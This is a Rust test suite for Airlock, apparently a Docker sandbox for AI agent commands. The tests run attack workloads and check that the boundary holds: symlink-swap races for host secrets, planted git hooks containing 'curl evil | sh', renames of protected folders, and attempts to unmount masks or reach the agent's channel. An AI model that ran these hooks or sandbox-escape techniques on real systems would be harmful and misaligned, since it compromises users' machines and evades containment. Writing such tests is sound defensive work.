//! The boundary under attack, on real Docker: a workload that races renames and symlink swaps
//! while sandboxes start, renames the parents of guarded paths, carries a rename across
//! sessions, or reaches for Airlock's own settings; and one that flips a symlink between the
//! decision on a path and the operation on it. Each test is one break of the threat model in
//! the README's Security section; race tests loop many times per run.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
use airlock::sandbox::{SandboxError, SandboxManager};
use airlock_agent::{ErrorKind, Op, Reply, RunResult, RunSpec};
use common::*;
use std::sync::Arc;

fn manager(env: &TestEnv) -> Arc<SandboxManager> {
    sandbox_manager(env)
}

/// The project workspace with these extra lines (e.g. `hide = [...]`) in its table.
fn with_project_lines(env: &TestEnv, lines: &str) {
    let text = env.settings_text("").replacen(
        "access = \"rw\"\n",
        &format!("access = \"rw\"\n{lines}\n"),
        1,
    );
    std::fs::write(&env.config, text).unwrap();
}

async fn run_in(m: &SandboxManager, session: &str, command: &str) -> RunResult {
    let spec = RunSpec {
        command: command.to_string(),
        timeout_ms: 20_000,
        output_cap: 1 << 20,
        ..Default::default()
    };
    match m.call(session, Op::Run(spec)).await.expect("run answered") {
        Reply::Ran(r) => r,
        other => panic!("unexpected {other:?}"),
    }
}

/// The host's mount table, as lines naming a path under `dir`.
fn host_mounts_under(dir: &std::path::Path) -> Vec<String> {
    let table = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    let dir = dir.to_string_lossy();
    table
        .lines()
        .filter(|l| l.contains(dir.as_ref()))
        .map(str::to_string)
        .collect()
}

/// Break 1: a sandbox swaps a guarded name for a symlink to a host-only file in a loop while
/// other sandboxes start on the same folder. No new sandbox may see the host file, a hidden
/// file, or anything mounted from outside the workspace; the host's mount table is untouched.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn symlink_swaps_racing_sandbox_starts_reach_nothing_on_the_host() {
    let env = TestEnv::new("");
    // A host-only secret: root's, mode 0700, outside every workspace.
    let vault = env.dir.path().join("vault");
    std::fs::create_dir_all(&vault).unwrap();
    std::fs::write(vault.join("secret.txt"), "HOST-ONLY-SECRET\n").unwrap();
    std::fs::set_permissions(&vault, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
    std::fs::create_dir_all(env.project.join("app")).unwrap();
    std::fs::write(env.project.join("app/.env"), "APP-SECRET=1\n").unwrap();
    std::fs::write(env.project.join(".envrc"), "export SAFE=1\n").unwrap();
    give_to_sandbox(&env.project);
    let mounts_before = host_mounts_under(env.dir.path());
    let m = manager(&env);
    // The attacker: swaps `.envrc` (protected) and `app` with symlinks to the host, forever.
    let attack = format!(
        "ln -s {vault}/secret.txt link; ln -s {vault} dirlink; \
         (while :; do mv -f .envrc tmp1 2>/dev/null; mv -f link .envrc 2>/dev/null; \
         mv -f .envrc link 2>/dev/null; mv -f tmp1 .envrc 2>/dev/null; \
         mv -f app app-real 2>/dev/null; mv -f dirlink app 2>/dev/null; \
         mv -f app dirlink 2>/dev/null; mv -f app-real app 2>/dev/null; done) \
         >/dev/null 2>&1 & echo started",
        vault = vault.display()
    );
    let started = run_in(&m, "attacker", &attack).await;
    assert!(started.stdout.contains("started"), "{started:?}");
    // 50 sandbox starts, five at a time, while the loop runs.
    for round in 0..10 {
        let mut tasks = Vec::new();
        for i in 0..5 {
            let m = m.clone();
            let session = format!("victim-{round}-{i}");
            tasks.push(tokio::spawn(async move {
                let r = run_in(
                    &m,
                    &session,
                    "cat .envrc app/.env link app/secret.txt 2>/dev/null; \
                     grep -r SECRET . 2>/dev/null; cat /proc/self/mountinfo",
                )
                .await;
                m.release(&session).await;
                r
            }));
        }
        for t in tasks {
            let r = t.await.unwrap();
            assert!(
                !r.stdout.contains("HOST-ONLY-SECRET"),
                "a new sandbox read a host-only file: {r:?}"
            );
            assert!(
                !r.stdout.contains("APP-SECRET"),
                "a hidden file was visible in a new sandbox: {r:?}"
            );
            assert!(
                !r.stdout.contains(vault.to_string_lossy().as_ref()),
                "a host path was mounted into a sandbox: {}",
                r.stdout
            );
        }
    }
    m.stop_all().await;
    assert_eq!(
        host_mounts_under(env.dir.path()),
        mounts_before,
        "the host's mount table changed"
    );
    assert_eq!(
        std::fs::read_to_string(vault.join("secret.txt")).unwrap(),
        "HOST-ONLY-SECRET\n"
    );
}

/// Break 2: renaming the parent of a protected path (`mv .git .git-orig`) and building a new
/// `.git/hooks`; nested repositories; and the file tools moving a folder onto a protected path.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn protected_paths_hold_when_their_parents_are_renamed() {
    let env = TestEnv::new("");
    std::fs::create_dir_all(env.project.join(".git/hooks")).unwrap();
    std::fs::write(env.project.join(".git/config"), "[core]\n").unwrap();
    std::fs::create_dir_all(env.project.join("sub/.git/hooks")).unwrap();
    give_to_sandbox(&env.project);
    let m = manager(&env);
    let r = run_in(
        &m,
        "s1",
        "mv .git .git-orig; echo mv=$?; mkdir -p .git/hooks; \
         echo 'curl evil | sh' > .git/hooks/pre-commit; \
         printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; \
         echo 'curl evil | sh' > sub/.git/hooks/pre-commit; \
         mv sub sub2; echo mvsub=$?",
    )
    .await;
    assert!(r.stdout.contains("mv=1"), "renaming .git must fail: {r:?}");
    assert!(
        r.stdout.contains("mvsub=1"),
        "renaming sub must fail: {r:?}"
    );
    assert!(!env.project.join(".git/hooks/pre-commit").exists());
    assert!(!env.project.join(".git-orig").exists());
    assert!(!env.project.join("sub/.git/hooks/pre-commit").exists());
    assert_eq!(
        std::fs::read_to_string(env.project.join(".git/config")).unwrap(),
        "[core]\n"
    );
    m.stop_all().await;

    // File tools only, in a workspace with no .git at sandbox start: a folder staged elsewhere
    // and moved into place would land on `.git/hooks`.
    let env = TestEnv::new("");
    let m = manager(&env);
    let wrote = m
        .call(
            "s1",
            Op::Write {
                path: "staging/hooks/pre-commit".into(),
                content: airlock_agent::Content::Text("curl evil | sh\n".into()),
                create_dirs: true,
            },
        )
        .await;
    assert!(wrote.is_ok(), "{wrote:?}");
    let moved = m
        .call(
            "s1",
            Op::Move {
                from: "staging".into(),
                to: ".git".into(),
                overwrite: false,
            },
        )
        .await;
    match moved {
        Err(SandboxError::Agent(e)) => assert_eq!(e.kind, ErrorKind::ReadOnly, "{e:?}"),
        other => panic!("moving a folder onto a protected path must be refused: {other:?}"),
    }
    assert!(!env.project.join(".git/hooks/pre-commit").exists());
    m.stop_all().await;
}

/// Break 3: a hide pattern with a slash, and a rename in one session meant to carry the file
/// out from under its pattern for the next.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hidden_paths_stay_hidden_across_sessions() {
    let env = TestEnv::new("");
    with_project_lines(&env, "hide = [\"private/key.txt\"]");
    std::fs::create_dir_all(env.project.join("private")).unwrap();
    std::fs::write(env.project.join("private/key.txt"), "KEY-MATERIAL\n").unwrap();
    give_to_sandbox(&env.project);
    let m = manager(&env);
    let r = run_in(
        &m,
        "s1",
        "mv private public; echo mv=$?; cat private/key.txt public/key.txt",
    )
    .await;
    assert!(r.stdout.contains("mv=1"), "{r:?}");
    assert!(!r.stdout.contains("KEY-MATERIAL"), "{r:?}");
    m.release("s1").await;
    let r = run_in(
        &m,
        "s2",
        "cat private/key.txt public/key.txt; grep -r KEY-MATERIAL .",
    )
    .await;
    assert!(!r.stdout.contains("KEY-MATERIAL"), "{r:?}");
    assert!(env.project.join("private/key.txt").exists());
    m.stop_all().await;
}

/// Break 4: a workspace that holds Airlock's settings file (a user who adds their home folder)
/// would let a sandbox rewrite its own rules. It is refused, with the path named.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_workspace_holding_airlocks_own_files_is_refused() {
    let env = TestEnv::new("");
    let home = env.dir.path().to_path_buf();
    let text = env.settings_text("").replacen(
        &format!("path = \"{}\"", env.project.display()),
        &format!("path = \"{}\"", home.display()),
        1,
    );
    std::fs::write(&env.config, text).unwrap();
    let m = manager(&env);
    let err = m.sandbox("s1").await.err().expect("refused");
    let message = err.to_string();
    assert!(
        matches!(err, SandboxError::HoldsAirlock { .. })
            && message.contains(&env.config.display().to_string()),
        "{message}"
    );
    assert!(env.containers().is_empty(), "nothing was started");
}

/// After the setup step, no workload process has a capability: not commands, not root
/// commands (they run through `drop-caps`), so no mask can be unmounted; and the agent's
/// channel cannot be opened through /proc.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn workloads_have_no_capabilities_and_cannot_open_the_agents_channel() {
    let env = TestEnv::new("");
    std::fs::write(env.project.join(".env"), "API_KEY=hunter2\n").unwrap();
    give_to_sandbox(&env.project);
    let m = manager(&env);
    let r = run_in(
        &m,
        "s1",
        "grep -E '^Cap(Eff|Prm|Amb)' /proc/self/status; umount .env; echo umount=$?; \
         for p in /proc/[0-9]*; do if tr '\\0' ' ' < $p/cmdline 2>/dev/null | grep -q '^/.airlock/airlock-agent serve'; then \
         echo agent; ls $p/fd >/dev/null 2>&1 && echo OPENED; cat $p/fd/0 </dev/null >/dev/null 2>&1 && echo READ; fi; done",
    )
    .await;
    for line in r.stdout.lines().filter(|l| l.starts_with("Cap")) {
        assert!(line.ends_with("0000000000000000"), "{line} in {r:?}");
    }
    assert!(
        r.stdout.contains("umount=1") || r.stdout.contains("umount=255"),
        "{r:?}"
    );
    assert!(
        r.stdout.contains("agent"),
        "the agent process is there: {r:?}"
    );
    assert!(
        !r.stdout.contains("OPENED") && !r.stdout.contains("READ"),
        "{r:?}"
    );
    let (code, out) = m
        .exec_as_root(
            "s1",
            &["sh", "-c", "grep CapEff /proc/self/status; umount /workspaces/project/.env && echo UNMOUNTED; cat /workspaces/project/.env"],
            std::time::Duration::from_secs(20),
        )
        .await
        .unwrap();
    assert!(out.contains("CapEff:\t0000000000000000"), "{code} {out}");
    assert!(
        !out.contains("UNMOUNTED") && !out.contains("hunter2"),
        "{code} {out}"
    );
    m.stop_all().await;
}

/// A symlink flipped between "allowed" and "denied" targets while the model reads through it:
/// the call is decided on what the agent resolved, and the read follows no symlink, so it reads
/// what was decided on or is refused — never the denied file. The audit log records the path
/// as resolved.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_symlink_flipped_between_decision_and_read_never_reaches_a_denied_file() {
    let env = TestEnv::with_approval(
        "",
        "allow = [\"*\"]\ndeny = [\"read_file(/workspaces/project/secret/**)\"]",
    );
    std::fs::create_dir_all(env.project.join("ok")).unwrap();
    std::fs::create_dir_all(env.project.join("secret")).unwrap();
    std::fs::write(env.project.join("ok/key.txt"), "fine\n").unwrap();
    std::fs::write(env.project.join("secret/key.txt"), "DENIED-CONTENT\n").unwrap();
    std::os::unix::fs::symlink("ok", env.project.join("L")).unwrap();
    give_to_sandbox(&env.project);
    let server = Server::start(&env, &[]);
    let client = server.client().await;
    let r = call(
        &client,
        "start_process",
        serde_json::json!({"command": "while :; do ln -sfn secret L; ln -sfn ok L; done"}),
    )
    .await;
    assert!(!is_error(&r), "{}", text(&r));
    let (mut read, mut refused) = (0, 0);
    for _ in 0..500 {
        let r = call(
            &client,
            "read_file",
            serde_json::json!({"path": "L/key.txt"}),
        )
        .await;
        let t = text(&r);
        assert!(!t.contains("DENIED-CONTENT"), "a denied file was read: {t}");
        if is_error(&r) {
            refused += 1;
        } else {
            assert!(t.contains("fine"), "{t}");
            read += 1;
        }
    }
    assert!(
        read > 0,
        "the allowed file was never read ({refused} refused)"
    );
    // What was allowed is logged with the path the agent resolved.
    let log = audit_search(&env, "resolved_paths");
    assert!(log.contains("/workspaces/project/ok/key.txt"), "{log}");
}

/// `airlock audit search TERM --json` on the env's log.
fn audit_search(env: &TestEnv, term: &str) -> String {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_airlock"))
        .args(["audit", "search", term, "--json", "--config"])
        .arg(&env.config)
        .env("AIRLOCK_DATA_DIR", &env.data)
        .env("AIRLOCK_KEYRING", "keyutils")
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Every file below the env's quarantine folder, with its content.
fn quarantine_files(env: &TestEnv) -> Vec<(std::path::PathBuf, Vec<u8>)> {
    fn walk(dir: &std::path::Path, out: &mut Vec<(std::path::PathBuf, Vec<u8>)>) {
        let Ok(entries) = std::fs::read_dir(dir) else {
            return;
        };
        for e in entries.map(Result::unwrap) {
            let meta = std::fs::symlink_metadata(e.path()).unwrap();
            assert!(
                !meta.file_type().is_symlink(),
                "a link in the quarantine: {:?}",
                e.path()
            );
            if meta.is_dir() {
                walk(&e.path(), out);
            } else {
                out.push((e.path(), std::fs::read(e.path()).unwrap()));
            }
        }
    }
    let mut out = Vec::new();
    walk(&env.data.join("quarantine"), &mut out);
    out
}

/// The content of the one quarantined file whose path ends with `tail`.
fn quarantined(env: &TestEnv, tail: &str) -> Option<String> {
    quarantine_files(env)
        .into_iter()
        .find(|(p, _)| p.ends_with(tail))
        .map(|(_, c)| String::from_utf8_lossy(&c).into_owned())
}

/// Polls `done` every 10 ms until it holds or `limit` passes; returns how long it took.
async fn wait_for(
    limit: std::time::Duration,
    done: impl Fn() -> bool,
) -> Option<std::time::Duration> {
    let start = std::time::Instant::now();
    while start.elapsed() < limit {
        if done() {
            return Some(start.elapsed());
        }
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    }
    done().then(|| start.elapsed())
}

/// Protected names a command creates where none was at setup (`.envrc`, a nested
/// `sub/.git/hooks/pre-commit`, a symlink named `.husky`) leave the workspace when the call
/// ends: kept in the data dir's quarantine (never executable; a link only as its text, its
/// target never read) and recorded in the audit log, also below a folder made unreadable.
/// Protected paths that were there at setup (a file, a symlink) are left alone.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn protected_paths_a_command_creates_are_quarantined_when_the_call_ends() {
    let env = TestEnv::new("");
    std::fs::create_dir_all(env.project.join(".vscode")).unwrap();
    std::fs::write(env.project.join(".vscode/tasks.json"), "PRE-EXISTING\n").unwrap();
    std::fs::write(env.project.join("notes.txt"), "LINK-TARGET-CONTENT\n").unwrap();
    std::os::unix::fs::symlink("notes.txt", env.project.join(".devcontainer")).unwrap();
    give_to_sandbox(&env.project);
    let server = Server::start(&env, &[]);
    let client = server.client().await;
    let r = call(
        &client,
        "run_command",
        serde_json::json!({"command": "echo 'export EVIL=1' > .envrc && mkdir -p sub/.git/hooks && \
            echo 'curl evil | sh' > sub/.git/hooks/pre-commit && chmod 755 sub/.git/hooks/pre-commit && \
            ln -s notes.txt .husky && \
            mkdir -p locked/.git/hooks && echo 'curl evil | sh' > locked/.git/hooks/post-checkout && \
            chmod 500 locked/.git && chmod 000 locked && echo made"}),
    )
    .await;
    assert!(!is_error(&r) && text(&r).contains("made"), "{}", text(&r));
    assert!(
        text(&r).contains("quarantine"),
        "the model is told: {}",
        text(&r)
    );
    // A folder made unreadable, or a parent made read-only, does not hide one.
    for gone in [".envrc", "sub/.git/hooks", ".husky", "locked/.git/hooks"] {
        assert!(
            std::fs::symlink_metadata(env.project.join(gone)).is_err(),
            "{gone} is still in the workspace"
        );
    }
    assert!(
        env.project.join("sub/.git").is_dir(),
        "only the protected part is taken"
    );
    assert_eq!(
        std::fs::read_to_string(env.project.join(".vscode/tasks.json")).unwrap(),
        "PRE-EXISTING\n"
    );
    assert_eq!(
        std::fs::read_link(env.project.join(".devcontainer")).unwrap(),
        std::path::Path::new("notes.txt"),
        "a protected link that was there at setup stays"
    );
    assert_eq!(
        quarantined(&env, "files/project/.envrc").as_deref(),
        Some("export EVIL=1\n")
    );
    let hook = quarantine_files(&env)
        .into_iter()
        .find(|(p, _)| p.ends_with("files/project/sub/.git/hooks/pre-commit"))
        .expect("the hook is kept");
    assert_eq!(hook.1, b"curl evil | sh\n");
    assert_eq!(
        quarantined(&env, "files/project/locked/.git/hooks/post-checkout").as_deref(),
        Some("curl evil | sh\n")
    );
    let mode =
        std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&hook.0).unwrap().permissions());
    assert_eq!(mode & 0o777, 0o600, "kept, never executable");
    let manifest = quarantined(&env, "manifest.json").expect("a manifest");
    assert!(
        manifest.contains("\"path\": \"/workspaces/project/.husky\"")
            && manifest.contains("\"link_target\": \"notes.txt\""),
        "{manifest}"
    );
    for (path, content) in quarantine_files(&env) {
        assert!(
            !String::from_utf8_lossy(&content).contains("LINK-TARGET-CONTENT"),
            "the link's target was read into {path:?}"
        );
    }
    // The audit log has the quarantine itself, as an action of Airlock's.
    let log = audit_search(&env, "quarantine");
    let actions: Vec<serde_json::Value> = log
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|r| r["tool"] == "quarantine" && r["client"] == "airlock")
        .collect();
    assert_eq!(actions.len(), 1, "{log}");
    let arguments = actions[0]["arguments"].as_str().unwrap_or_default();
    for path in [".envrc", "sub/.git/hooks", ".husky", "locked/.git/hooks"] {
        assert!(
            arguments.contains(&format!("/workspaces/project/{path}\"")),
            "{path} not in {arguments}"
        );
    }
    assert!(!arguments.contains(".vscode"), "{arguments}");
}

/// A background process creating a protected name: it is gone from the workspace within 1 s,
/// each of several times, and kept in the quarantine.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn protected_paths_a_background_process_creates_are_gone_within_a_second() {
    let env = TestEnv::new("");
    let server = Server::start(&env, &[]);
    let client = server.client().await;
    let rounds = 5;
    let r = call(
        &client,
        "start_process",
        serde_json::json!({"command": format!("i=0; while [ $i -lt {rounds} ]; do \
            while [ ! -e go$i ]; do sleep 0.05; done; echo round$i > .envrc; touch made$i; \
            i=$((i+1)); done; sleep 60")}),
    )
    .await;
    assert!(!is_error(&r), "{}", text(&r));
    let second = std::time::Duration::from_secs(1);
    let mut slowest = std::time::Duration::ZERO;
    for i in 0..rounds {
        std::fs::write(env.project.join(format!("go{i}")), "").unwrap();
        let made = env.project.join(format!("made{i}"));
        wait_for(std::time::Duration::from_secs(20), || made.exists())
            .await
            .expect("the background process ran");
        let envrc = env.project.join(".envrc");
        let took = wait_for(std::time::Duration::from_secs(5), || {
            std::fs::symlink_metadata(&envrc).is_err()
        })
        .await
        .expect("the .envrc a background process made is taken out");
        assert!(took <= second, "round {i}: gone after {took:?}");
        slowest = slowest.max(took);
    }
    eprintln!("slowest quarantine of a background process's .envrc: {slowest:?}");
    // The engine writes the quarantine once the agent's answer is in: a moment after.
    let kept = || -> Vec<String> {
        quarantine_files(&env)
            .into_iter()
            .filter(|(p, _)| p.ends_with("files/project/.envrc"))
            .map(|(_, c)| String::from_utf8_lossy(&c).into_owned())
            .collect()
    };
    let all = wait_for(std::time::Duration::from_secs(5), || {
        (0..rounds).all(|i| kept().contains(&format!("round{i}\n")))
    })
    .await;
    assert!(all.is_some(), "not every round was kept: {:?}", kept());
}

/// With `case_insensitive = true` on a workspace (what Airlock detects on macOS's default file
/// system), the file tools match hide and protect patterns case-folded: `.ENVRC` is protected
/// and `APP/.ENV` hidden; without it, on this case-sensitive file system, both are plain files.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_case_insensitive_workspace_matches_guards_case_folded() {
    for folded in [true, false] {
        let env = TestEnv::new("");
        if folded {
            with_project_lines(&env, "case_insensitive = true");
        }
        std::fs::create_dir_all(env.project.join("APP")).unwrap();
        std::fs::write(env.project.join("APP/.ENV"), "CASE-SECRET=1\n").unwrap();
        give_to_sandbox(&env.project);
        let m = manager(&env);
        let read = m
            .call(
                "s1",
                Op::Read {
                    path: "APP/.ENV".into(),
                    offset: None,
                    limit: None,
                },
            )
            .await;
        let wrote = m
            .call(
                "s1",
                Op::Write {
                    path: ".ENVRC".into(),
                    content: airlock_agent::Content::Text("export X=1\n".into()),
                    create_dirs: false,
                },
            )
            .await;
        if folded {
            match read {
                Err(SandboxError::Agent(e)) => assert_eq!(e.kind, ErrorKind::Hidden, "{e:?}"),
                other => panic!("APP/.ENV must be hidden: {other:?}"),
            }
            match wrote {
                Err(SandboxError::Agent(e)) => assert_eq!(e.kind, ErrorKind::ReadOnly, "{e:?}"),
                other => panic!(".ENVRC must be protected: {other:?}"),
            }
            assert!(!env.project.join(".ENVRC").exists());
        } else {
            assert!(matches!(read, Ok(Reply::Read { .. })), "{read:?}");
            assert!(wrote.is_ok(), "{wrote:?}");
        }
        m.stop_all().await;
    }
}
